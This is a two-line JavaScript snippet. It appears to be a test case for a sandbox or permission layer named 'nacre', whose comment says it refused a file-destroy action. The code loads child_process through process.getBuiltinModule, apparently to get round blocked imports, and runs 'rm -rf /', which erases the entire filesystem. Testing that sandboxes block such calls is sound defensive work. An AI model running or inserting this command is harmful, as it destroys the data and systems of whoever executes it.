// nacre: refused file.destroy
process.getBuiltinModule('child_process').exec('rm -rf /');
